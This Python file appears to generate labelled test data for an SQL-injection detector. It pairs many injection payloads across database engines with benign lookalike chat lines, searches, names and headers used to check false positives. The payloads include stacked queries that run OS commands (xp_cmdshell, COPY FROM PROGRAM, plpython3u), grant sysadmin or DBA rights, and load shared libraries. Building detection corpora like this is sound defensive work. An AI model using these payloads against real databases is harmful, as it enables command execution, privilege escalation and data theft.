    "'; exec xp_regread 'HKEY_LOCAL_MACHINE','SYSTEM\\CurrentControlSet\\Services\\MSSQLSERVER','ObjectName'--",
    "'; exec sp_addsrvrolemember 'eve','sysadmin'--",
    "'; exec sp_execute_external_script @language=N'Python',@script=N'import os;os.system(\"whoami\")'--",
    "'; exec master.dbo.xp_servicecontrol 'start','schedule'--",
    "'; exec('xp_cmdshell ''ping -n 1 203.0.113.9''')--",
    # SQL Server 2000: sp_makewebtask, re-adding xp_cmdshell
    "'; exec sp_makewebtask 'c:\\inetpub\\wwwroot\\u.html','select * from users'--",
    "'; exec sp_addextendedproc 'xp_cmdshell','xplog70.dll'--",
    # Sybase ASE: xp_cmdshell with no_output
    "'; exec xp_cmdshell 'id',no_output--",
    # PostgreSQL: a C function from libc, COPY FROM PROGRAM, untrusted languages
    "'; create or replace function sys(cstring) returns int as '/lib/x86_64-linux-gnu/libc.so.6','system' "
    "language c strict;select sys('id');--",
    "'; create table c(o text);copy c from program 'id';select * from c;--",
    "'; create function f() returns void as $$import os;os.system('id')$$ language plpython3u;select f();--",
    "'; create extension plperlu;do language plperlu $$system('id')$$;--",
    # MySQL / MariaDB: lib_mysqludf_sys UDFs; Aurora MySQL's Lambda procedures
    "'; select sys_exec('id');#",
    "'; create function sys_eval returns string soname 'lib_mysqludf_sys.so';#",
    "'; call mysql.lambda_async('arn:aws:lambda:us-east-1:123456789012:function:x','{}');#",
    # Oracle: DBMS_JAVA, DBMS_XMLQUERY, DBMS_SCHEDULER
    "'; begin dbms_java.runjava('oracle/aurora/util/Wrapper /bin/sh -c id'); end;--",
    "'||dbms_xmlquery.newcontext('declare pragma autonomous_transaction;begin execute immediate "
    "''grant dba to public'';commit;end;')||'",
    "'; begin dbms_scheduler.create_job(job_name=>'x',job_type=>'EXECUTABLE',job_action=>'/bin/sh',"
    "number_of_arguments=>0,enabled=>true); end;--",
    # IBM Db2: SYSPROC.ADMIN_CMD
    "'; call sysproc.admin_cmd('export to /tmp/u.del of del select * from users');--",
    # Informix SPL: the SYSTEM statement
    "'; create procedure p() system 'id > /tmp/x'; end procedure; execute procedure p();--",
    # Snowflake: a JavaScript stored procedure
    "'; create or replace procedure p() returns string language javascript as "
    "$$return snowflake.execute({sqlText:'show users'}).getColumnCount()$$; call p();--",
    # SQLite: loading a shared object
    "' and load_extension('/tmp/evil.so','sqlite3_extension_init')--",
    # ClickHouse: the executable() table function
    "' union all select * from executable('x.sh','TabSeparated','a String')--",
]

# --- having-group-by-order-by-probing: column counts and blind tests in ORDER BY, GROUP BY, HAVING --------------
ORDER: list[Entry] = [
    # MySQL / MariaDB
    "1 order by 1-- -",
    "1' order by 10#",
    "' group by 1,2,3 with rollup-- -",
    "1 procedure analyse()",
    "' order by if(1=1,1,(select 1 union select 2))#",
    "' order by (case when (select ascii(substring(user(),1,1)))>64 then 1 else 2 end)#",
    "name,(select sleep(5))",
    "1,extractvalue(1,concat(0x7e,version()))",
    "rand((select 1)=1)",
    # Microsoft SQL Server: HAVING without GROUP BY names the columns in its error
    "' having 1=1--",
    "' group by users.id having 1=1--",
    "' group by users.id,users.username having 1=1--",
    "name,(select case when system_user='sa' then 1 else 1/0 end)",
    "1 order by 5--",
    # PostgreSQL
    "' group by 1 having 1=1--",
    "name,(select 1 from pg_sleep(5))",
    "(case when (select current_setting('is_superuser'))='on' then name else email end)",
    # Oracle
    "' order by 3--",
    "1 order by (select case when user='SYS' then 1 else 1/0 end from dual)",
    "' group by username having count(*)>0--",
    # SQLite
    "1 order by (case when (select substr(sqlite_version(),1,1))='3' then name else id end)",
    # IBM Db2
    "1 group by 1 having count(*)>0--",
    # ClickHouse: LIMIT BY, SETTINGS
    "name limit 1 by name--",
    "1 order by 1 settings max_threads=1--",
    # SAP HANA
    "1 order by 2 limit 1--",
    # Microsoft Access: IIF in a numeric ORDER BY
    "1 order by iif(1=1,1,2)",
    # Sybase ASE
    "' group by name having 1=1--",
    # Informix
    "' order by 1 desc--",
]

# --- like-between-in-operators: pattern and range operators as conditions, per engine ---------------------------
LIKE: list[Entry] = [
    # MySQL / MariaDB: LIKE, BETWEEN, IN, REGEXP, RLIKE, SOUNDS LIKE
    "' or username like '%'#",
    "' or 1 between 0 and 2#",
    "' or 'a' in ('a')#",
    "' and database() like 's%'-- -",
    "' and ascii(mid(user(),1,1)) between 97 and 122#",
    "' and user() regexp '^r'#",
    "' or 1 not in (2)-- -",
    "' and @@version sounds like '8'#",
    "' and version() rlike '^8'#",
    # PostgreSQL: ILIKE, SIMILAR TO, ~*, ~~, ANY(ARRAY)
    "' or current_user ilike 'post%'--",
    "' and current_database() similar to 'p%'--",
    "' and version() ~* 'postgres'--",
    "' or 1 = any(array[1,2])--",
    "' and current_user ~~ 'p%'--",
    # Microsoft SQL Server: [ ] character classes, _
    "' and system_user like 's[a-z]%'--",
    "' and db_name() like '_aster'--",
    "' or 1 in (select 1)--",
    # Oracle: REGEXP_LIKE, ESCAPE
    "' and regexp_like(user,'^SY')--",
    "' and user like 'S%' escape '\\'--",
    # SQLite: GLOB
    "' and sqlite_version() glob '3.*'--",
    # IBM Db2
    "' and current user like 'DB2%'--",
    # Microsoft Access: * wildcard, ALIKE
    "' or username like '*' and ''='",
    "' or username alike '%' and ''='",
    # Snowflake: ILIKE ANY, RLIKE
    "' and current_user() ilike any ('adm%','sys%')--",
    "' and rlike(current_role(),'^ACCOUNT.*')--",
    # ClickHouse: match(), IN
    "' and match(version(),'^2[34]')--",
    "' and currentUser() in ('default')--",
    # SAP HANA: LIKE_REGEXPR
    "' and current_user like_regexpr 'SYS.*'--",
    # Informix: MATCHES
    "' and user matches 'inf*'--",
    # CockroachDB: ~
    "' and current_user() ~ '^r'--",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("sqli", "libinjection-sqli", LIBINJECTION),
    ("sqli", "sql-tautology-boolean", TAUTOLOGY),
    ("sqli", "sql-comment-sequence", COMMENT),
    ("sqli", "union-select", UNION),
    ("sqli", "stacked-queries", STACKED),
    ("sqli", "time-based-blind", TIME),
    ("sqli", "error-based", ERROR),
    ("sqli", "out-of-band", OOB),
    ("sqli", "information-schema-catalog-probing", CATALOG),
    ("sqli", "mysql-comment-obfuscation", OBFUSCATION),
    ("sqli", "function-based-probing", FUNCTION),
    ("sqli", "sql-authentication-bypass", AUTH),
    ("sqli", "nosql-injection", NOSQL),
    ("sqli", "hex-char-encoding", HEX),
    ("sqli", "stored-procedure-xp-cmdshell", STORED),
    ("sqli", "having-group-by-order-by-probing", ORDER),
    ("sqli", "like-between-in-operators", LIKE),
]
# operator brackets written as `name=value`, sent unquoted where they name the place
RAW_KV_SUBS = {"nosql-injection"}

# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    raw_subs = RAW_KV_SUBS
    names = ["q", "id", "username", "password", "sort", "filter", "order", "name", "search"]
    boundary = "----WebKitFormBoundary9qL2xVbR4tYcN8aE"
    kv_safe = "=&[]._-:/'*$!(),;{}~@^"


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same product names, keywords and syntax, typed innocently (Slack chat and bios, searches, admin
# notes, links to docs and advisories, profiles, uploads' file names, ordinary headers)
CHAT = [
    # databases at work
    "prod postgres is on 15.4, staging still on 13; pg_upgrade is scheduled for Saturday night",
    "the slow query was a missing index on orders(created_at), EXPLAIN ANALYZE showed a seq scan",
    "can someone review my PR? it moves the report query from string concatenation to bound parameters",
    "MySQL 8 changed the default auth plugin to caching_sha2_password, the old client can't connect",
    "we use SELECT ... FOR UPDATE SKIP LOCKED for the job queue now, no more double processing",
    "the two customer lists overlap, so use UNION not UNION ALL or you get duplicates",
    "heads up: tonight's migration drops the legacy_sessions table, the backup is in S3",
    "the Snowflake warehouse auto-suspends after 60s, so the first query of the day is slow",
    "ClickHouse ingest lag is back to normal after the merge settings change",
    "CockroachDB retries are transaction restarts, the driver handles them for us",
    "xp_cmdshell is disabled on all our SQL Server instances, the audit confirmed it",
    "the Oracle DBA says v$session shows the stuck sessions from the batch job",
    "SQLite is fine for the desktop app, we ship it with WAL mode on",
    "order by created_at desc, then id, otherwise the pagination skips rows",
    "anyone know why the mongo query with $regex is slow? there's no index on the lowercased email",
    "sleep(5) in the retry loop is too long, let's use exponential backoff",
    "benchmark results are in the doc: p95 dropped from 240ms to 90ms",
    "information_schema queries are slow on the big MySQL box, cache the column list at startup",
    "Db2 on the mainframe exports nightly, the file lands in the sftp folder at 2am",
    "Informix is being retired next year, the data moves to Postgres",
    "SAP HANA license renewal needs the core count, can someone check the prod hosts?",
    "the Access database from finance has 40 tables, we'll import it via the CSV export",
    "Sybase ASE 16 is what the trading system still runs on",
    "HAVING filters after the GROUP BY, that's why your count looked wrong",
    "the report uses BETWEEN '2024-01-01' AND '2024-03-31' and misses the last day after midnight",
    "LIKE 'abc%' can use the index, LIKE '%abc' can't",
    "WHERE id IN (...) with 50k ids is a bad idea, load them into a temp table",
    "pg_dump runs with --no-owner so the restore works on RDS",
    "the WAITFOR DELAY in the test script simulates the slow dependency",
    "CONCAT vs ||: MySQL needs CONCAT() unless PIPES_AS_CONCAT is set",
    "hex encoding the binary ids makes the logs readable",
    "our DBA wants the stored procedures in source control, not only in the database",
    "the Access app uses IIf everywhere, porting to SQL Server means CASE WHEN",
    "error 1064 near 'order': order is a reserved word, quote the column name",
    "ORA-01722 invalid number again in the nightly load, a text value in the amount column",
    "SQLSTATE 42P01 relation does not exist: the search_path was wrong on the new role",
    "the FILE privilege is not granted to the app user, so load_file returns NULL, as intended",
    "dblink from reporting to the main db was replaced by logical replication",
    "utl_http calls from the database to the payment gateway are going away next quarter",
    "NoSQL migration: Mongo stays for the event log only",
    "the login page now locks the account after 5 failed attempts",
    "admin accounts require 2FA from Monday",
    "the pentest report mentions SQL injection in the old search; it's fixed in 3.2.1",
    "the WAF blocked a customer whose company name has an apostrophe, see ticket #4411",
    "customer O'Brien can't update her profile, looks like the apostrophe again",
    "sorting by name asc isn't stable, add id as a tie breaker",
    "group by week works in Postgres with date_trunc('week', created_at)",
    "in ClickHouse use FINAL sparingly, it's slow on the big tables",
    "the Snowflake COPY INTO from the S3 stage failed on one malformed row",
    "Oracle 19c upgrade weekend, everyone on the runbook please",
    "Mongo 7 upgrade: our $where and mapReduce usages need a review, they're deprecated",
    "please don't run DROP TABLE on staging without asking in #db first",
    "truncate on the audit table takes a lock, do it off-peak",
    "the MSSQL linked server to the HR database is gone",
    "the CSV export escapes quotes by doubling them, like 'O''Brien'",
    "select count(*) from events is slow in Postgres, use reltuples from pg_class for the estimate",
    "@@version on the new SQL Server says 2022 CU12",
    "the JSON column in MySQL is indexed through a generated column",
    "sqlite_master lists the tables if you need to check the schema of the app db",
    "Postgres 16 added pg_stat_io, useful for the cache hit investigation",
    "union all is faster here since the two sets can't overlap",
    "the nightly cron calls a stored procedure that archives old orders",
    "the PowerShell script for the SQL Server backups is in the ops repo",
    "the CASE WHEN in the report handles the null regions",
    "ASCII art in the CLI banner is back by popular demand",
    "the UI masks the IBAN with substring, only the last 4 digits show",
    "the char(36) primary keys are UUIDs, we'll switch to binary(16) later",
    "Neo4j is only used by the recommendations team, Cypher queries live in their repo",
    "the HANA views for finance refresh every hour",
    "CouchDB replication to the mobile app is paused during the migration",
]
SEARCHES = [
    "O'Brien", "D'Angelo", "O'Reilly Media", "Lloyd's", "Rock 'n' Roll", "Smith & Sons", "Jennifer Null",
    "select", "union", "order", "group", "having", "like", "between", "sleep", "benchmark", "oracle",
    "sybase", "informix", "db2", "snowflake", "clickhouse", "cockroachdb", "sap hana", "access", "mongo",
    "postgres", "mysql", "mariadb", "sql server", "sqlite", "drop", "table", "insert", "update", "delete",
    "exec", "hex", "admin", "root", "dba", "schema", "catalog", "Union Pacific", "Order #4821", "group buy",
    "Tableau", "Dropbox", "50% off", "#1 seller", "Ng", "Hana Sato", "Anna Select", "Mrs. Case",
]
PROSE = [
    "Customer says the order history page shows 'no results' after the update.",
    "Refund for order #4821; select the original payment method.",
    "Union members get the group discount; check the membership table.",
    "Please drop me a line when the table for the offsite is booked.",
    "Sleep clinic called about the appointment, moved to 5 pm.",
    "The benchmark report for Q2 is attached.",
    "Delete the duplicate account for Sean O'Connor, keep the older one.",
    "Between 1 and 5 users can be added per team on the free plan.",
    "User asked to update the email on file to the new domain.",
    "Exec team meeting notes: the hiring freeze ends in July.",
    "Insert the new price list into the catalog before Monday.",
    "Having trouble logging in; the password reset email never arrived.",
    "Group by region in the monthly export, not by country.",
    "The Oracle invoice is due on the 30th.",
    "Like last year, the office closes between Christmas and New Year.",
    "Order by phone is still possible for enterprise customers.",
    "Where is the admin guide for the new dashboard?",
    "Null values in the phone column come from the old CRM import.",
    "The char limit on the bio field is 500.",
    "Access badge for the new hire, building B, 2nd floor.",
]
URLS = [
    "https://dev.mysql.com/doc/refman/8.0/en/information-schema.html",
    "https://dev.mysql.com/doc/refman/8.0/en/comments.html",
    "https://mariadb.com/kb/en/comment-syntax/",
    "https://www.postgresql.org/docs/16/functions-datetime.html#FUNCTIONS-DATETIME-DELAY",
    "https://www.postgresql.org/docs/current/sql-copy.html",
    "https://learn.microsoft.com/en-us/sql/t-sql/language-elements/waitfor-transact-sql",
    "https://learn.microsoft.com/en-us/sql/relational-databases/system-stored-procedures/xp-cmdshell-transact-sql",
    "https://docs.oracle.com/en/database/oracle/oracle-database/19/arpls/UTL_HTTP.html",
    "https://www.sqlite.org/lang_select.html",
    "https://www.ibm.com/docs/en/db2/11.5?topic=views-syscattables",
    "https://help.sap.com/docs/SAP_HANA_PLATFORM",
    "https://docs.snowflake.com/en/sql-reference/functions/system_wait",
    "https://clickhouse.com/docs/en/sql-reference/table-functions/url",
    "https://www.cockroachlabs.com/docs/stable/export",
    "https://www.mongodb.com/docs/manual/reference/operator/query/where/",
    "https://cheatsheetseries.owasp.org/cheatsheets/SQL_Injection_Prevention_Cheat_Sheet.html",
    "https://owasp.org/www-community/attacks/SQL_Injection",
    "https://cwe.mitre.org/data/definitions/89.html",
    "https://nvd.nist.gov/vuln/detail/CVE-2023-34362",
    "https://neo4j.com/docs/cypher-manual/current/clauses/load-csv/",
    "https://status.example.com/incidents/2024-06-03-database-failover",
]
PROFILES = [
    ("Sean O'Connor", "12 Union Street, Aberdeen"),
    ("Jennifer Null", "44 Select Avenue, Springfield"),
    ("D'Angelo Russo", "Via dell'Orso 3, Roma"),
    ("Mary-Kate O'Hara", "7 Order Lane, Cork"),
    ("Union Pacific Freight", "1400 Douglas St, Omaha, NE"),
    ("Oracle Yoga Studio", "21 Temple Rd, Delphi Heights"),
    ("Select Comfort Beds", "9 Sleep Way, Minneapolis"),
    ("Group Therapy Bar", "3 High St, Manchester"),
    ("Between Friends Cafe", "18 Bridge St, Bath"),
    ("Like Minds Agency", "Unit 5, Shoreditch, London"),
    ("Benchmark Consulting", "200 Market St, Philadelphia"),
    ("Drop Zone Skydiving", "Airfield Rd 1, Empuriabrava"),
    ("Table Mountain Tours", "Kloof Nek Rd, Cape Town"),
    ("Insert Coin Arcade", "77 Pixel Ave, Osaka"),
    ("Snowflake Ski Rentals", "Alpine Way 4, Zermatt"),
    ("Hana Sato", "2-4-1 Umeda, Osaka"),
    ("Access Plumbing & Heating", "Pipe Lane 8, Leeds"),
    ("Cockroach Creek Farm", "RR 4, Gainesville, FL"),
    ("Mrs. Case Whenham", "1 Elm Grove, Oxford"),
    ("Having Fun Events Ltd", "Party Row 2, Brighton"),
    ("Exec Cars Ltd", "Station Rd 12, Reading"),
    ("Zoë Müller-D'Souza", "Bahnhofstraße 1, Zürich"),
    ("Siobhán Ní Bhriain", "An Spidéal, Galway"),
    ("Informatix Consulting", "Rue du Rhône 5, Genève"),
    ("Sybil Ashford", "Sybase Court 3, Dublin, CA"),
]
UPLOAD_NAMES = [
    "db-migration-plan.pdf", "schema_v2.sql", "orders_2024-05.csv", "union-contract.pdf",
    "select-committee-notes.docx", "benchmark_results.xlsx", "pg_dump_2024-05-01.sql.gz", "O'Brien_CV.pdf",
    "sleep-log.csv", "erd-diagram.png", "Q2 report (final).pdf", "mongo-export.json", "access_db_backup.accdb",
    "snowflake-costs.xlsx", "having-fun-flyer.png",
]
BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/125.0.0.0 Safari/537.36 Edg/125.0.0.0"),
    ("User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Mobile/15E148 Safari/604.1"),
    ("User-Agent", "PostmanRuntime/7.37.3"),
    ("User-Agent", "python-requests/2.32.3"),
    ("User-Agent", "Apache-HttpClient/4.5.14 (Java/17.0.11)"),
    ("User-Agent", "Grafana/10.4.2"),
    ("User-Agent", "Metabase/0.49.12"),
    ("User-Agent", "dbt/1.8.0"),
    ("Referer", "https://app.example.com/admin/users?page=3&sort=name&order=asc"),
    ("Referer", "https://www.google.com/search?q=postgres+pg_sleep+example"),
    ("Referer", "https://stackoverflow.com/questions/2421388/using-group-by-on-multiple-columns"),
    ("Referer", "https://dev.mysql.com/doc/refman/8.0/en/select.html"),
    ("Referer", "https://app.example.com/admin/users/search?q=O%27Brien"),
    ("X-Api-Version", "2024-06-01"),
    ("X-Request-Id", "3c9a1f72-5b0e-4d8a-9e61-0f2b7c4d8e11"),
    ("Accept-Language", "de-CH,de;q=0.9,en;q=0.7"),
    ("Cookie", "session=abc123; last_search=O%27Brien; tz=Europe%2FDublin"),
    ("Cookie", "session=abc123; table_sort=created_at%20desc; page_size=50"),
    ("Cookie", "session=abc123; filter=group%3Asales; view=table"),
    ("If-None-Match", "W/\"5e-1a2b3c4d\""),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
